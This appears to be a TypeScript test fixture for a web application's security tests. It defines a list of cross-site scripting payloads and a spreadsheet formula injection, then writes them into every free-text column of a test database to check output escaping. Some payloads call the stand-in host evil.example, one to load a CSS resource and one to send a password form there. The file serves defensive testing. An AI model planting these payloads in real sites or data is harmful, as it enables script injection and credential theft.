// Class 8: the payloads, and every column they are put into.
import { renderWriting } from '../../src/care/community/index.ts';
import type { Town } from './town.ts';

export const payloads = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '{{constructor.constructor("alert(1)")()}}',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<b id=hostile-markup>x</b>',
  '<style>*{background:url(//evil.example/x)}</style>',
  '<form action=https://evil.example><input name=password autofocus onfocus=alert(1)>',
  "-->']]><script>alert(1)</script>",
];
/** All of them in one text that begins as a formula. */
export const all = ['=HYPERLINK("//evil.example")', ...payloads].join(' ');

/** Columns that only ever hold codes, keys and hashes of our own, or what a door lets in by its kind alone; every other column of text is poisoned. */
const ours = new Set(
  `act arm birthday channel class code_hash country currency decision direction doubtful duty ended_because entry_key family field file_path
  import_error.code key kind language line mailbox message_id moment normal occasion opened_by outcome password_hash principal purpose queue
  reachability request_id result scopes screen sort_name source state step subject_id subject_kind template_key tier totp_secret trait
  waits_for zone
  handle slug gist notice.link client_id terms shared messenger_id robot_sealed repeats settled portal_code.next endpoint p256dh auth write_key.word ruling.reason thing_id`.split(
    /\s+/,
  ),
);

/** Columns that are where somebody leads to. */
const leads = new Set(['activity.recap_link', 'link_preview.address']);
/** Columns of which no two rows may hold the same. */
const unique = (name: string): boolean => /\.(number|email)$|^product\./.test(name);

export const markup = /<script>alert|<img src=x|<svg\/onload|<b id=hostile|<iframe srcdoc/;

/** Puts the payloads into every column that may hold words of anybody's, of every table there is; says how many it tried and which held rows. */
export const poison = async ({ house }: Town): Promise<{ tried: number; hit: string[] }> => {
  const { pool } = house.database;
  const { rows } = await pool.query<{ table: string; column: string }>(`
    SELECT c.table_name AS table, c.column_name AS column FROM information_schema.columns c
    JOIN information_schema.tables t USING (table_schema, table_name)
    WHERE c.table_schema = 'public' AND t.table_type = 'BASE TABLE' AND c.data_type = 'text'
      AND c.table_name NOT IN ('identity', 'field_source', 'migration', 'setting', 'suppression')`);
  const html = payloads.map((one) => renderWriting(one).html).join('\n');
  const hit: string[] = [];
  let tried = 0;
  for (const { table, column } of rows) {
    const name = `${table}.${column}`;
    if (ours.has(column) || ours.has(name)) continue;
    tried += 1;
    const own = unique(name) ? ` || ' ' || gen_random_uuid()` : '';
    // columns that only take words of ours refuse, and that is as good; HTML is only ever made of Markdown, by us
    const done = await pool
      .query(`UPDATE "${table}" SET "${column}" = $1${own} WHERE "${column}" IS NOT NULL`, [
        column === 'html' ? html : leads.has(name) ? 'javascript:alert(1)' : all,
      ])
      .catch(() => undefined);
    if ((done?.rowCount ?? 0) > 0) hit.push(name);
  }
  await pool.query('UPDATE customer SET custom = $1, given_name = $2, title = $2, city = $2', [
    JSON.stringify({ [payloads[0] ?? '']: all }),
    all,
  ]);
  await pool.query(`UPDATE event SET data = data || jsonb_build_object('words', $1::text, 'subject', $1::text, 'number', $1::text)`, [all]);
  await pool.query('UPDATE import_error SET cells = $1', [JSON.stringify([all])]);
  return { tried, hit };
};
